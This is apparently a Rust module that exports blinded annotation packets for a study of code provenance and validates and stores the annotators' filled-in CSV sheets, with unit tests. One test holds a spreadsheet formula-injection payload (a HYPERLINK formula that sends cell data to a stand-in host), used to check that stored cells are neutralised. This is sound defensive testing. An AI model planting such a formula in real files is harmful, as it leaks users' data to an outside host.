//! Human annotation round trip: blinded packets out, validated labels in.
//!
//! Annotators label code provenance and the introducing write (and confirm screening
//! candidates) without seeing sage's outputs, as the paper's validity assessment requires. A
//! packet therefore holds the failure anchor, the reconstructed artefact history (baseline and
//! each write's diff with its turn) and the trace text, and nothing else: no scores, no
//! origins, no labels, no judge names. Packets get blinded ids; `key.json`, kept by whoever
//! runs the study, maps them back to case ids.

use crate::localize::prepare;
use crate::results::ResultSet;
use rand::seq::SliceRandom;
use rand::SeedableRng;
use sage_reliability::annotations::{normalize_introducing_write, normalize_provenance};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

pub mod schema;

/// Version tag of the packets file and the key.
pub const PACKET_VERSION: &str = "sage.annotation-packet/1";

/// The blinded id of a case: stable across exports, not revealing the case name.
pub fn packet_id(case_id: &str) -> String {
    let h = hex::encode(Sha256::digest(case_id.as_bytes()));
    format!("P-{}", &h[..10])
}

/// One write of the artefact history as an annotator sees it.
#[derive(Debug, Clone, PartialEq)]
pub struct PacketWrite {
    pub write: usize,
    pub turn: usize,
    pub artefact: String,
    /// Unified diff of the artefact before → after the write (empty when it failed).
    pub diff: String,
    pub failed: Option<String>,
}

/// One turn of the trace as text.
#[derive(Debug, Clone, PartialEq)]
pub struct PacketTurn {
    pub turn: usize,
    pub actor: String,
    pub kind: String,
    pub text: String,
}

/// Everything an annotator gets for one case.
#[derive(Debug, Clone, PartialEq)]
pub struct Packet {
    pub packet_id: String,
    pub task: String,
    pub anchor_artefact: String,
    pub anchor_fragment: Option<String>,
    pub anchor_category: String,
    pub anchor_cwe: String,
    pub anchor_description: String,
    /// Artefact → baseline content.
    pub baselines: BTreeMap<String, String>,
    pub writes: Vec<PacketWrite>,
    /// Final states recorded outside the turns (the trace's submission, the case's final
    /// file), as diffs from the baseline: no turn's write.
    pub final_states: Vec<PacketFinalState>,
    pub turns: Vec<PacketTurn>,
}

/// A recorded final state in a packet.
#[derive(Debug, Clone, PartialEq)]
pub struct PacketFinalState {
    pub artefact: String,
    pub source: String,
    /// Unified diff baseline → recorded final state (empty when it could not be derived).
    pub diff: String,
}

/// What `export` needs to know.
#[derive(Debug, Clone)]
pub struct ExportOptions {
    pub annotator: String,
    pub out: PathBuf,
    pub sample: Option<usize>,
    pub seed: u64,
    /// `framework`, `base_model`, `dataset`, `category`, `condition` or `cwe`.
    pub stratify_by: Option<String>,
    /// Where the results' case folders are now.
    pub locator: crate::locate::CaseLocator,
    /// How the cases are re-read (the user's rules and limits, else the embedded ones).
    pub rules: crate::Rules,
}

/// Why an export or import failed.
#[derive(Debug, thiserror::Error)]
pub enum AnnotateError {
    #[error("{0}: {1}")]
    Io(String, String),
    #[error("{0}: {1}")]
    Invalid(String, String),
}

fn io(path: &Path, e: impl std::fmt::Display) -> AnnotateError {
    AnnotateError::Io(path.display().to_string(), e.to_string())
}

/// The value of a stratification field for a case result.
fn stratum(r: &crate::results::CaseResult, field: &str) -> Result<String, String> {
    let m = &r.metadata;
    Ok(match field {
        "framework" => m.framework.clone().unwrap_or_else(|| r.framework.clone()),
        "base_model" | "base-model" => m.base_model.clone().unwrap_or_default(),
        "dataset" => m.dataset.clone().unwrap_or_default(),
        "category" => r.anchor.category.as_str().to_string(),
        "condition" => r.reconstruction_condition.as_str().to_string(),
        "cwe" => r.anchor.cwe.clone(),
        other => {
            return Err(format!(
                "cannot stratify by {other:?}: use framework, base_model, dataset, category, condition or cwe"
            ))
        }
    })
}

/// Pick the cases to annotate: all, or a seeded sample (proportional per stratum, at least
/// one from each stratum while the sample allows), in a seeded random order.
pub fn select(set: &ResultSet, opts: &ExportOptions) -> Result<Vec<usize>, AnnotateError> {
    // One entry per case (results hold one per judge run).
    let mut seen = std::collections::BTreeSet::new();
    let mut idx: Vec<usize> = (0..set.results.len())
        .filter(|&i| seen.insert(set.results[i].case_id.clone()))
        .collect();
    let mut rng = rand_chacha::ChaCha8Rng::seed_from_u64(opts.seed);
    if let Some(n) = opts.sample.filter(|n| *n < idx.len()) {
        let mut groups: BTreeMap<String, Vec<usize>> = BTreeMap::new();
        for &i in &idx {
            let key = match &opts.stratify_by {
                Some(f) => stratum(&set.results[i], f)
                    .map_err(|e| AnnotateError::Invalid("--stratify-by".into(), e))?,
                None => String::new(),
            };
            groups.entry(key).or_default().push(i);
        }
        let total = idx.len() as f64;
        let mut chosen = Vec::new();
        // Largest-remainder allocation, so the sample has exactly n cases.
        let mut alloc: Vec<(String, usize, f64)> = groups
            .iter()
            .map(|(k, v)| {
                let exact = n as f64 * v.len() as f64 / total;
                (k.clone(), exact.floor() as usize, exact - exact.floor())
            })
            .collect();
        let mut left = n - alloc.iter().map(|a| a.1).sum::<usize>();
        let mut order: Vec<usize> = (0..alloc.len()).collect();
        order.sort_by(|a, b| alloc[*b].2.total_cmp(&alloc[*a].2).then(a.cmp(b)));
        for i in order {
            if left == 0 {
                break;
            }
            alloc[i].1 += 1;
            left -= 1;
        }
        for (k, take, _) in alloc {
            let mut g = groups[&k].clone();
            g.shuffle(&mut rng);
            chosen.extend(g.into_iter().take(take));
        }
        idx = chosen;
    }
    idx.shuffle(&mut rng);
    Ok(idx)
}

/// Build the blinded packet of one case by re-reading its folder.
pub(crate) fn build_packet(
    case_dir: &Path,
    case_id: &str,
    rules: &crate::Rules,
) -> Result<Packet, String> {
    let (p, _) =
        prepare(case_dir, rules).map_err(|s| format!("{} ({}): {}", s.case, s.stage, s.message))?;
    let anchor = &p.anchor;
    let mut writes = Vec::new();
    for s in &p.history.snapshots {
        writes.push(PacketWrite {
            write: s.write,
            turn: s.turn,
            artefact: s.artefact.clone(),
            diff: p.history.write_diff(s.write).unwrap_or_default(),
            failed: None,
        });
    }
    for f in &p.history.failures {
        writes.push(PacketWrite {
            write: f.write,
            turn: f.turn,
            artefact: f.artefact.clone(),
            diff: String::new(),
            failed: Some(f.reason.clone()),
        });
    }
    writes.sort_by_key(|w| w.write);
    let turns = p
        .trace
        .turns
        .iter()
        .map(|t| PacketTurn {
            turn: t.index,
            actor: t.actor.name.clone(),
            kind: t.kind.as_str().to_string(),
            text: t.full_text(),
        })
        .collect();
    Ok(Packet {
        packet_id: packet_id(case_id),
        task: p.case.task().description.clone(),
        anchor_artefact: anchor.artefact.clone(),
        anchor_fragment: anchor.fragment.clone(),
        anchor_category: anchor.category.as_str().to_string(),
        anchor_cwe: anchor.cwe.clone(),
        anchor_description: anchor.description.clone(),
        baselines: p.case.baselines.clone(),
        writes,
        final_states: p
            .history
            .final_states
            .iter()
            .map(|f| PacketFinalState {
                artefact: f.artefact.clone(),
                source: f.source.clone(),
                diff: match (&f.error, f.content.as_deref()) {
                    (None, Some(c)) => sage_history::unified_diff(
                        p.history.baseline(&f.artefact).unwrap_or(""),
                        c,
                        &format!("{} (baseline)", f.artefact),
                        &format!("{} ({})", f.artefact, f.source),
                    ),
                    _ => String::new(),
                },
            })
            .collect(),
        turns,
    })
}

/// The packet as Markdown for reading. Every value from the case or the trace goes through
/// `sage_markup`'s Markdown helpers: names on one line as escaped text, texts and diffs as
/// fenced blocks no line of them can close (docs/security.md).
pub(crate) fn packet_text(p: &Packet) -> String {
    use sage_markup::{markdown as md, markdown_block as block};
    use std::fmt::Write as _;
    let mut o = String::new();
    let _ = writeln!(
        o,
        "# Packet {}\n\n## Task\n\n{}",
        md(&p.packet_id),
        block("text", &p.task)
    );
    let _ = writeln!(
        o,
        "## Failure anchor\n\nartefact: {}\ncategory: {}\nCWE: {}\nfragment:\n\n{}\n{}",
        md(&p.anchor_artefact),
        md(&p.anchor_category),
        md(&p.anchor_cwe),
        block(
            "",
            p.anchor_fragment
                .as_deref()
                .unwrap_or("(none: no identifiable code location)")
        ),
        block("text", &p.anchor_description)
    );
    for (a, text) in &p.baselines {
        let _ = writeln!(o, "## Baseline {}\n\n{}", md(a), block("", text));
    }
    let _ = writeln!(o, "## Writes\n");
    if p.writes.is_empty() {
        let _ = writeln!(o, "(the trace records no write)\n");
    }
    for w in &p.writes {
        match &w.failed {
            Some(reason) => {
                let _ = writeln!(
                    o,
                    "### Write {} at turn {} → {} (could not be applied: {})\n",
                    w.write,
                    w.turn,
                    md(&w.artefact),
                    md(reason)
                );
            }
            None => {
                let _ = writeln!(
                    o,
                    "### Write {} at turn {} → {}\n\n{}",
                    w.write,
                    w.turn,
                    md(&w.artefact),
                    block("diff", &w.diff)
                );
            }
        }
    }
    for f in &p.final_states {
        let _ = writeln!(
            o,
            "## Recorded final state of {} ({}; no turn's write)\n\n{}",
            md(&f.artefact),
            md(&f.source),
            block("diff", &f.diff)
        );
    }
    let _ = writeln!(o, "## Trace\n");
    for t in &p.turns {
        let _ = writeln!(
            o,
            "### Turn {} — {} ({})\n\n{}",
            t.turn,
            md(&t.actor),
            md(&t.kind),
            block("text", &t.text)
        );
    }
    o
}

/// The key of an export: packet id → case id. Kept by the study lead, not sent.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(into = "schema::Key", from = "schema::Key")]
pub struct Key {
    pub version: String,
    pub annotator: String,
    pub packets: BTreeMap<String, String>,
}

/// The columns of the sheet an annotator fills in.
pub const SHEET_COLUMNS: [&str; 9] = [
    "packet_id",
    "annotator",
    "anchor_artefact",
    "anchor_cwe",
    "writes",
    "provenance",
    "introducing_write",
    "confirmation",
    "notes",
];

/// What an export wrote, and the cases it could not package.
#[derive(Debug, Clone, Default)]
pub struct ExportReport {
    pub packets: usize,
    pub failures: Vec<String>,
}

/// Write `OUT/packet/` (for the annotator: `sheet.csv`, `packets.json`, one text file per
/// packet) and `OUT/key.json` (for the study lead).
pub fn export(set: &ResultSet, opts: &ExportOptions) -> Result<ExportReport, AnnotateError> {
    sage_trace::safe::check_id(&opts.annotator)
        .map_err(|m| AnnotateError::Invalid("--annotator".into(), m.to_string()))?;
    let order = select(set, opts)?;
    let dir = opts.out.join("packet");
    let texts = dir.join("cases");
    let mut report = ExportReport::default();
    let mut packets = Vec::new();
    let mut key = Key {
        version: PACKET_VERSION.into(),
        annotator: opts.annotator.clone(),
        packets: BTreeMap::new(),
    };
    for i in order {
        let r = &set.results[i];
        match opts
            .locator
            .locate(&r.case_dir)
            .map_err(|e| e.0)
            .and_then(|dir| build_packet(&dir, &r.case_id, &opts.rules))
        {
            Ok(p) => {
                key.packets.insert(p.packet_id.clone(), r.case_id.clone());
                packets.push(p);
            }
            Err(e) => report.failures.push(e),
        }
    }
    // Nothing to annotate: write nothing, so the retry is not blocked by a key of no packet.
    if packets.is_empty() {
        let why = report
            .failures
            .first()
            .cloned()
            .unwrap_or_else(|| "the results hold no case".into());
        return Err(AnnotateError::Invalid(
            "results".into(),
            format!(
                "no packet could be built ({} case(s) failed): {why}",
                report.failures.len()
            ),
        ));
    }
    std::fs::create_dir_all(&texts).map_err(|e| io(&texts, e))?;
    let sheet_path = dir.join("sheet.csv");
    let mut w = csv::Writer::from_path(&sheet_path).map_err(|e| io(&sheet_path, e))?;
    w.write_record(SHEET_COLUMNS)
        .map_err(|e| io(&sheet_path, e))?;
    for p in &packets {
        let writes = p
            .writes
            .iter()
            .map(|w| format!("turn {}: write {} → {}", w.turn, w.write, w.artefact))
            .collect::<Vec<_>>()
            .join("; ");
        // Artefact names and CWEs come from the case and its trace: a cell starting with
        // `=` would run as a formula in the annotator's spreadsheet.
        let cells = [
            p.packet_id.as_str(),
            opts.annotator.as_str(),
            p.anchor_artefact.as_str(),
            p.anchor_cwe.as_str(),
            writes.as_str(),
            "",
            "",
            "",
            "",
        ]
        .map(|c| sage_llm::secrets::scrubbed(sage_markup::csv_cell(c)));
        w.write_record(&cells).map_err(|e| io(&sheet_path, e))?;
        let tp = texts.join(format!("{}.md", p.packet_id));
        std::fs::write(&tp, sage_llm::secrets::scrubbed(packet_text(p))).map_err(|e| io(&tp, e))?;
    }
    w.flush().map_err(|e| io(&sheet_path, e))?;
    report.packets = packets.len();
    let pj = dir.join("packets.json");
    let doc = schema::Packets::new(&opts.annotator, packets);
    std::fs::write(&pj, crate::sink::pretty(&doc)).map_err(|e| io(&pj, e))?;
    let kp = opts.out.join("key.json");
    std::fs::write(&kp, crate::sink::pretty(&key)).map_err(|e| io(&kp, e))?;
    Ok(report)
}

/// One validated row of a filled sheet.
#[derive(Debug, Clone, PartialEq)]
pub struct Annotation {
    pub case_id: String,
    pub annotator: String,
    /// `inherited`, `agent-introduced`, `no-code-location` or `cannot-determine`.
    pub provenance: Option<String>,
    /// `turn:N`, `none` or `cannot-determine`.
    pub introducing_write: Option<String>,
    /// `TP`, `Partial` or `FP` (screening candidates).
    pub confirmation: Option<String>,
}

/// A bad row: its line and what is wrong.
pub use sage_reliability::annotations::AnnotationError as RowError;

fn normalize_confirmation(s: &str) -> Result<Option<String>, String> {
    match s.trim().to_ascii_lowercase().as_str() {
        "" => Ok(None),
        "tp" | "true-positive" => Ok(Some("TP".into())),
        "partial" => Ok(Some("Partial".into())),
        "fp" | "false-positive" => Ok(Some("FP".into())),
        _ => Err(format!("confirmation {s:?} is not TP, Partial or FP")),
    }
}

/// Validate a filled sheet. Rows may name a `packet_id` (resolved through `key`) or a
/// `case_id`. An introducing write must be one of the case's write turns when `write_turns`
/// knows the case.
pub fn validate_sheet(
    text: &str,
    key: Option<&Key>,
    write_turns: &BTreeMap<String, Vec<usize>>,
) -> (Vec<Annotation>, Vec<RowError>) {
    let mut out = Vec::new();
    let sheet = sage_reliability::annotations::Sheet::read(text);
    let mut errors = sheet.errors.clone();
    if !sheet.has_header() && !errors.is_empty() {
        // the header row could not be read: that one message says it
        return (out, errors);
    }
    let col = |n: &str| sheet.column(n);
    let (packet_c, case_c, ann_c) = (col("packet_id"), col("case_id"), col("annotator"));
    let (prov_c, iw_c, conf_c) = (
        col("provenance"),
        col("introducing_write"),
        col("confirmation"),
    );
    if packet_c.is_none() && case_c.is_none() {
        errors.push(RowError {
            line: 1,
            message: "the header names neither packet_id nor case_id".into(),
        });
        return (out, errors);
    }
    if ann_c.is_none() {
        errors.push(RowError {
            line: 1,
            message: "the header has no annotator column".into(),
        });
        return (out, errors);
    }
    let mut seen = std::collections::BTreeSet::new();
    for rec in &sheet.rows {
        let line = rec.line;
        let get = |c: Option<usize>| rec.get(c).to_string();
        let mut problems = Vec::new();
        let case_id = if let Some(id) = Some(get(case_c)).filter(|s| !s.is_empty()) {
            id
        } else {
            let pid = get(packet_c);
            match key.and_then(|k| k.packets.get(&pid)) {
                Some(c) => c.clone(),
                None if key.is_none() => {
                    problems.push(format!("packet {pid:?}: no key given (--key DIR/key.json)"));
                    String::new()
                }
                None => {
                    problems.push(format!("packet {pid:?} is not in the key"));
                    String::new()
                }
            }
        };
        let annotator = get(ann_c);
        if let Err(m) = sage_trace::safe::check_id(&annotator) {
            problems.push(format!("annotator {annotator:?}: {m}"));
        }
        let provenance = normalize_provenance(&get(prov_c)).unwrap_or_else(|e| {
            problems.push(e.to_string());
            None
        });
        let introducing_write = normalize_introducing_write(&get(iw_c)).unwrap_or_else(|e| {
            problems.push(e.to_string());
            None
        });
        if let (Some(iw), Some(turns)) = (&introducing_write, write_turns.get(&case_id)) {
            if let Some(n) = iw
                .strip_prefix("turn:")
                .and_then(|n| n.parse::<usize>().ok())
            {
                if !turns.contains(&n) {
                    problems.push(format!(
                        "introducing_write turn {n} is not a write turn of the case (write turns: {})",
                        if turns.is_empty() {
                            "none".to_string()
                        } else {
                            turns.iter().map(|t| t.to_string()).collect::<Vec<_>>().join(", ")
                        }
                    ));
                }
            }
        }
        let confirmation = normalize_confirmation(&get(conf_c)).unwrap_or_else(|e| {
            problems.push(e);
            None
        });
        if !case_id.is_empty()
            && !annotator.is_empty()
            && !seen.insert((case_id.clone(), annotator.clone()))
        {
            problems.push(format!("a second row for case {case_id} by {annotator}"));
        }
        if problems.is_empty() {
            out.push(Annotation {
                case_id,
                annotator,
                provenance,
                introducing_write,
                confirmation,
            });
        } else {
            errors.push(RowError {
                line,
                message: problems.join("; "),
            });
        }
    }
    errors.sort_by_key(|e| e.line);
    (out, errors)
}

/// Store validated annotations as `STORE/<annotator>.csv` in the format of
/// `docs/annotations.md` (plus `confirmation`), merging with what is already stored: a new
/// row for the same case replaces the old one. Returns the files written.
///
/// The file name is [`sage_trace::safe::file_stem`] of the annotator, so `R/1` and `R_1` get
/// files of their own; a store file that holds another annotator's rows, or one whose rows no
/// longer validate, stops the import with the file and line named (nothing is dropped or
/// overwritten silently).
pub fn store(dir: &Path, rows: &[Annotation]) -> Result<Vec<PathBuf>, AnnotateError> {
    std::fs::create_dir_all(dir).map_err(|e| io(dir, e))?;
    let mut by_annotator: BTreeMap<&str, Vec<&Annotation>> = BTreeMap::new();
    for r in rows {
        by_annotator
            .entry(r.annotator.as_str())
            .or_default()
            .push(r);
    }
    if let Some(g) = sage_trace::safe::stem_collisions(by_annotator.keys().copied()).first() {
        return Err(AnnotateError::Invalid(
            dir.display().to_string(),
            format!(
                "annotators {} differ only in letter case and would share a store file",
                g.join(", ")
            ),
        ));
    }
    // Check every file before writing any, so a refused import changes nothing.
    let mut plans = Vec::new();
    for (annotator, new_rows) in by_annotator {
        let name = format!("{}.csv", sage_trace::safe::file_stem(annotator));
        let path = dir.join(&name);
        let existing = std::fs::read_dir(dir)
            .map_err(|e| io(dir, e))?
            .filter_map(|e| e.ok())
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .find(|n| n.eq_ignore_ascii_case(&name) && *n != name);
        if let Some(other) = existing {
            return Err(AnnotateError::Invalid(
                path.display().to_string(),
                format!(
                    "{other} already stores an annotator whose name differs only in letter case"
                ),
            ));
        }
        let mut merged: BTreeMap<String, Annotation> = BTreeMap::new();
        if path.exists() {
            let text = std::fs::read_to_string(&path).map_err(|e| io(&path, e))?;
            let (old, bad) = validate_sheet(&text, None, &BTreeMap::new());
            if let Some(e) = bad.first() {
                return Err(AnnotateError::Invalid(
                    format!("{}:{}", path.display(), e.line),
                    format!(
                        "stored row no longer validates ({}); fix or remove it before importing",
                        e.message
                    ),
                ));
            }
            for a in old {
                if a.annotator != annotator {
                    return Err(AnnotateError::Invalid(
                        path.display().to_string(),
                        format!(
                            "holds labels of annotator {:?}, not {annotator:?}",
                            a.annotator
                        ),
                    ));
                }
                merged.insert(a.case_id.clone(), a);
            }
        }
        for a in new_rows {
            merged.insert(a.case_id.clone(), a.clone());
        }
        plans.push((path, merged));
    }
    let mut written = Vec::new();
    for (path, merged) in plans {
        let mut w = csv::Writer::from_path(&path).map_err(|e| io(&path, e))?;
        w.write_record([
            "case_id",
            "annotator",
            "provenance",
            "introducing_write",
            "confirmation",
        ])
        .map_err(|e| io(&path, e))?;
        for a in merged.values() {
            w.write_record(
                [
                    a.case_id.as_str(),
                    a.annotator.as_str(),
                    a.provenance.as_deref().unwrap_or(""),
                    a.introducing_write.as_deref().unwrap_or(""),
                    a.confirmation.as_deref().unwrap_or(""),
                ]
                .map(|c| sage_markup::csv_cell(c).into_owned()),
            )
            .map_err(|e| io(&path, e))?;
        }
        w.flush().map_err(|e| io(&path, e))?;
        written.push(path);
    }
    Ok(written)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn packet_ids_are_stable_and_blind() {
        assert_eq!(packet_id("a"), packet_id("a"));
        assert_ne!(packet_id("a"), packet_id("b"));
        assert!(!packet_id("ag2-fig1a").contains("fig1a"));
    }

    #[test]
    fn sheets_are_validated_row_by_row() {
        let key = Key {
            version: PACKET_VERSION.into(),
            annotator: "R1".into(),
            packets: [("P-1".to_string(), "case-a".to_string())].into(),
        };
        let turns: BTreeMap<String, Vec<usize>> = [("case-a".to_string(), vec![3])].into();
        let text = "packet_id,annotator,provenance,introducing_write,confirmation\n\
                    P-1,R1,agent-introduced,3,TP\n\
                    P-9,R1,inherited,none,\n\
                    P-1,R2,sideways,4,maybe\n\
                    P-1,R1,inherited,none,FP\n";
        let (ok, bad) = validate_sheet(text, Some(&key), &turns);
        assert_eq!(ok.len(), 1);
        assert_eq!(ok[0].introducing_write.as_deref(), Some("turn:3"));
        assert_eq!(ok[0].confirmation.as_deref(), Some("TP"));
        let lines: Vec<u64> = bad.iter().map(|e| e.line).collect();
        assert_eq!(lines, vec![3, 4, 5]);
        assert!(bad[0].message.contains("not in the key"));
        assert!(bad[1].message.contains("sideways"));
        assert!(bad[1].message.contains("turn 4 is not a write turn"));
        assert!(bad[1].message.contains("maybe"));
        assert!(bad[2].message.contains("second row"));
    }

    #[test]
    fn a_bad_row_after_a_multi_line_note_names_its_file_line() {
        // Lines: 1 header, 2-4 the first row (its note spans three lines, quoted, CRLF as
        // spreadsheets write it), 5 a good row, 6 the bad one.
        let text = "case_id,annotator,provenance,introducing_write,notes\r\n\
                    a,R1,inherited,none,\"one\ntwo\nthree\"\r\n\
                    b,R1,inherited,none,\r\n\
                    c,R1,bogus,none,\r\n";
        let (ok, bad) = validate_sheet(text, None, &BTreeMap::new());
        assert_eq!(ok.len(), 2);
        assert_eq!(bad.len(), 1);
        assert_eq!(bad[0].line, 6, "{:?}", bad[0]);
    }

    fn row(case: &str, annotator: &str, prov: &str) -> Annotation {
        Annotation {
            case_id: case.into(),
            annotator: annotator.into(),
            provenance: Some(prov.into()),
            introducing_write: None,
            confirmation: None,
        }
    }

    #[test]
    fn attack_annotators_r_slash_1_and_r_underscore_1_share_a_store() {
        let d = tempfile::tempdir().unwrap();
        store(d.path(), &[row("c1", "R/1", "inherited")]).unwrap();
        store(d.path(), &[row("c1", "R_1", "agent-introduced")]).unwrap();
        let files: Vec<String> = std::fs::read_dir(d.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(files.len(), 2, "{files:?}");
        // the first annotator's label survived the second import
        let text = std::fs::read_to_string(d.path().join("R~2F1.csv")).unwrap();
        assert!(text.contains("c1,R/1,inherited"), "{text}");
        // a store file holding somebody else's rows is refused, not merged into
        std::fs::write(
            d.path().join("R2.csv"),
            "case_id,annotator,provenance,introducing_write,confirmation\nc1,R9,inherited,,\n",
        )
        .unwrap();
        let e = store(d.path(), &[row("c2", "R2", "inherited")]).unwrap_err();
        assert!(e.to_string().contains("R9"), "{e}");
    }

    #[test]
    fn attack_a_stored_row_that_no_longer_validates_is_dropped_silently() {
        let d = tempfile::tempdir().unwrap();
        let p = d.path().join("R1.csv");
        std::fs::write(
            &p,
            "case_id,annotator,provenance,introducing_write,confirmation\n\
             c1,R1,inherited,,\nc2,R1,sideways,,\n",
        )
        .unwrap();
        let before = std::fs::read_to_string(&p).unwrap();
        let e = store(d.path(), &[row("c3", "R1", "inherited")])
            .unwrap_err()
            .to_string();
        assert!(e.contains("R1.csv:3") && e.contains("sideways"), "{e}");
        // nothing was rewritten
        assert_eq!(std::fs::read_to_string(&p).unwrap(), before);
    }

    #[test]
    fn an_empty_sheet_is_an_error_not_zero_rows() {
        for text in ["", "\n"] {
            let (rows, errs) = validate_sheet(text, None, &BTreeMap::new());
            assert!(rows.is_empty());
            assert_eq!(errs.len(), 1, "{text:?}: {errs:?}");
            assert_eq!(errs[0].line, 1);
        }
    }

    #[test]
    fn attack_sheet_cells_starting_with_equals_run_as_formulas() {
        // the store neutralizes what it writes and reads it back exactly
        let d = tempfile::tempdir().unwrap();
        let evil = "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")";
        store(
            d.path(),
            &[row(evil, "R1", "inherited"), row("-2+3", "R1", "inherited")],
        )
        .unwrap();
        let text = std::fs::read_to_string(d.path().join("R1.csv")).unwrap();
        for line in text.lines().skip(1) {
            let first = line.trim_start_matches('"');
            assert!(!first.starts_with(['=', '+', '-', '@']), "{line}");
        }
        let (back, bad) = validate_sheet(&text, None, &BTreeMap::new());
        assert!(bad.is_empty(), "{bad:?}");
        let ids: Vec<&str> = back.iter().map(|a| a.case_id.as_str()).collect();
        assert!(ids.contains(&evil) && ids.contains(&"-2+3"), "{ids:?}");
        let (parsed, errs) = sage_reliability::annotations::parse_annotations(&text);
        assert!(errs.is_empty(), "{errs:?}");
        assert_eq!(parsed.len(), 1);
    }
}
